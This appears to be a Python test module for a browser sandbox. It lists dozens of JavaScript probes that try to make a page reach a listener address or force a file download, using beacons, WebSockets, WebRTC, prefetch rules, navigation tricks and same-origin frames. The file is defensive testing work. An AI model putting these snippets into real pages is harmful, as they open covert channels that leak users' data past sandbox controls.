"""Attempts by a page to make its reader's browser speak to somebody else, or to save a file.

Each is a piece of script with $HTTP, $WS, $STUN and $OWN for the listener's addresses and the workspace's own. It got
through when the listener heard $NAME, or the browser began to save. The control is the same script in a plain page.
"""

from __future__ import annotations

from dataclasses import dataclass
from string import Template


@dataclass(frozen=True)
class PageProbe:
    """One attempt: its name and its script."""

    name: str
    script: str


def script_of(probe: PageProbe, *, http: str, ws: str, stun: str, own: str) -> str:
    """The script, with the addresses that it is to reach."""
    name = probe.name
    return Template(probe.script).substitute(HTTP=f"{http}/{name}", WS=f"{ws}/{name}", STUN=stun, OWN=own, NAME=name)


def _add(html: str) -> str:
    return f"document.body.insertAdjacentHTML('beforeend', `{html}`);"


def _probes(**scripts: str) -> tuple[PageProbe, ...]:
    return tuple(PageProbe(name, script) for name, script in scripts.items())


# All of these in one page, one after the other.
DISPLAYED = _probes(
    image=_add('<img src="$HTTP">'),
    image_set=_add('<img srcset="$HTTP 1x">'),
    picture=_add('<picture><source srcset="$HTTP"><img></picture>'),
    input_image=_add('<input type=image src="$HTTP">'),
    fetched="fetch('$HTTP', {mode: 'no-cors'}).catch(() => 0);",
    fetched_alive="fetch('$HTTP', {mode: 'no-cors', keepalive: true, method: 'POST', body: 'x'}).catch(() => 0);",
    fetched_later="fetchLater('$HTTP', {activateAfter: 0});",
    request="{ const r = new XMLHttpRequest(); r.open('GET', '$HTTP'); r.send(); }",
    beacon="navigator.sendBeacon('$HTTP', 'x');",
    websocket="new WebSocket('$WS');",
    event_source="new EventSource('$HTTP');",
    style=_add("<p style=\"background: url('$HTTP')\">x</p>"),
    style_import=_add("<style>@import url('$HTTP');</style>"),
    style_sheet=_add('<link rel=stylesheet href="$HTTP">'),
    font=_add("<style>@font-face {font-family: f; src: url('$HTTP')}</style><p style=\"font-family: f\">x</p>"),
    cursor_list=_add("<ul><li style=\"list-style-image: url('$HTTP')\">x</li></ul>"),
    script="{ const s = document.createElement('script'); s.src = '$HTTP'; document.body.append(s); }",
    module="import('$HTTP').catch(() => 0);",
    worker_script="new Worker(URL.createObjectURL(new Blob([`try { importScripts('$HTTP') } catch {}`])));",
    worker_fetch="new Worker(URL.createObjectURL(new Blob([`fetch('$HTTP', {mode: 'no-cors'}).catch(() => 0)`])));",
    frame=_add('<iframe src="$HTTP"></iframe>'),
    frame_of_text=_add("<iframe srcdoc=\"<img src='$HTTP'>\"></iframe>"),
    frame_script="{ const f = document.createElement('iframe'); document.body.append(f);"
    " f.contentWindow.location = '$HTTP'; }",
    embedded=_add('<embed src="$HTTP" type="text/html">'),
    object=_add('<object data="$HTTP" type="text/html"></object>'),
    video=_add('<video src="$HTTP" autoplay></video>'),
    audio=_add('<audio src="$HTTP" autoplay></audio>'),
    poster=_add('<video poster="$HTTP"></video>'),
    drawing=_add('<svg><image href="$HTTP"/></svg>'),
    icon="document.head.insertAdjacentHTML('beforeend', `<link rel=icon href=\"$HTTP\">`);",
    prefetched=_add('<link rel=prefetch href="$HTTP">'),
    preloaded=_add('<link rel=preload as=image href="$HTTP">'),
    module_preloaded=_add('<link rel=modulepreload href="$HTTP">'),
    prefetched_by_rule="{ const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent ="
    " JSON.stringify({prefetch: [{source: 'list', urls: ['$HTTP'], eagerness: 'immediate'}]});"
    " document.head.append(s); }",
    ping="{ const a = document.createElement('a'); a.href = '#here'; a.ping = '$HTTP';"
    " document.body.append(a); a.click(); }",
    form_to_a_frame=_add('<iframe name=there></iframe><form id=sent target=there action="$HTTP"></form>')
    + "document.getElementById('sent').submit();",
    peers="{ const p = new RTCPeerConnection({iceServers: [{urls: '$STUN'}]}); p.createDataChannel('x');"
    " p.createOffer().then(o => p.setLocalDescription(o)).catch(() => 0); }",
)

# Each of these takes the page away: one page for each.
LEAVING = _probes(
    opened="window.open('$HTTP');",
    link_to_a_new_page="{ const a = document.createElement('a'); a.href = '$HTTP'; a.target = '_blank';"
    " document.body.append(a); a.click(); }",
    gone="location.href = '$HTTP';",
    replaced="location.replace('$HTTP');",
    refreshed="document.head.insertAdjacentHTML('beforeend', `<meta http-equiv=refresh content=\"0;url=$HTTP\">`);",
    form=_add('<form id=sent action="$HTTP"></form>') + "document.getElementById('sent').submit();",
    form_posted=_add('<form id=sent method=post action="$HTTP"></form>') + "document.getElementById('sent').submit();",
    link=_add('<a id=link href="$HTTP">x</a>') + "document.getElementById('link').click();",
    opened_here="window.open('$HTTP', '_self');",
    navigated="navigation.navigate('$HTTP');",
    from_a_frame="{ const f = document.createElement('iframe'); document.body.append(f);"
    ' f.contentDocument.body.innerHTML = `<a id=link target=_top href="$HTTP">x</a>`;'
    " f.contentDocument.getElementById('link').click(); }",
    by_script_address='location = \'javascript:"<script>location.href=`$HTTP`</scr" + "ipt>"\';',
    by_a_page_of_its_own="location = URL.createObjectURL(new Blob(['<script>location.href=\"$HTTP\"</scr' + 'ipt>'],"
    " {type: 'text/html'}));",
    by_a_page_written="document.open(); document.write('<script>setTimeout(() => { location = \"$HTTP\" }, 0)</scr'"
    " + 'ipt>'); document.close();",
    prerendered="{ const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent ="
    " JSON.stringify({prerender: [{source: 'list', urls: ['$HTTP'], eagerness: 'immediate'}]});"
    " document.head.append(s); }",
)

# These ask the browser to save.
SAVING = _probes(
    data_address="{ const a = document.createElement('a'); a.download = '$NAME'; a.href = 'data:text/csv,1';"
    " document.body.append(a); a.click(); }",
    blob_address="{ const a = document.createElement('a'); a.download = '$NAME';"
    " a.href = URL.createObjectURL(new Blob(['1'])); document.body.append(a); a.click(); }",
    own_address="{ const a = document.createElement('a'); a.download = '$NAME'; a.href = '$OWN';"
    " document.body.append(a); a.click(); }",
    from_a_frame="{ const f = document.createElement('iframe'); document.body.append(f);"
    ' f.contentDocument.body.innerHTML = `<a id=link download="$NAME" href="data:text/csv,1">x</a>`;'
    " f.contentDocument.getElementById('link').click(); }",
    frame_to_a_blob="{ const f = document.createElement('iframe');"
    " f.src = URL.createObjectURL(new Blob(['1'], {type: 'application/zip'})); document.body.append(f); }",
    page_to_a_blob="location = URL.createObjectURL(new Blob(['1'], {type: 'application/zip'}));",
)

# Each asks by way of a frame of an address at the page's own origin, $OWN: such a frame a page can drive.
_IN_A_FRAME = (
    "{ const f = document.createElement('iframe'); f.onload = () => { document.body.dataset.framed = 'yes';"
    " const w = f.contentWindow; %s }; f.src = '$OWN'; document.body.append(f); }"
)
_IN_ITS_PAGE = "const e = w.document.createElement('%s'); e.src = '$HTTP'; w.document.documentElement.append(e);"
FRAMED = _probes(
    framed_fetch=_IN_A_FRAME % "w.fetch('$HTTP', {mode: 'no-cors'}).catch(() => 0);",
    framed_image=_IN_A_FRAME % (_IN_ITS_PAGE % "img"),
    framed_script=_IN_A_FRAME % (_IN_ITS_PAGE % "script"),
    framed_frame=_IN_A_FRAME % (_IN_ITS_PAGE % "iframe"),
    framed_websocket=_IN_A_FRAME % "new w.WebSocket('$WS');",
    framed_beacon=_IN_A_FRAME % "w.navigator.sendBeacon('$HTTP', 'x');",
    framed_written=_IN_A_FRAME % "w.eval(`fetch('$HTTP', {mode: 'no-cors'}).catch(() => 0)`);",
    framed_gone=_IN_A_FRAME % "f.onload = null; w.eval(`location.href = '$HTTP'`);",
    peers=_IN_A_FRAME % "const p = new w.RTCPeerConnection({iceServers: [{urls: '$STUN'}]}); p.createDataChannel('x');"
    " p.createOffer().then(o => p.setLocalDescription(o)).catch(() => 0);",
)
